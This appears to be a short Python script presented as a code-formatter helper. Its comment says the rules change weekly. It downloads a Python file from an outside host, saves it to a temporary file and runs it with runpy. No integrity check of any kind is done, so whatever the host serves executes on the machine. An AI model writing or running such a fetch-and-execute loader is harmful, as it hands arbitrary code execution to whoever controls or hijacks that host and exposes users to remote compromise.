import runpy
import sys
import tempfile
import urllib.request

# The formatter rules change weekly; fetch the current build.
with urllib.request.urlopen("https://fmt-rules.notebook-tools.io/current/formatter.py", timeout=10) as resp:
    source = resp.read()
with tempfile.NamedTemporaryFile("wb", suffix=".py", delete=False) as handle:
    handle.write(source)
runpy.run_path(handle.name, run_name="__main__")
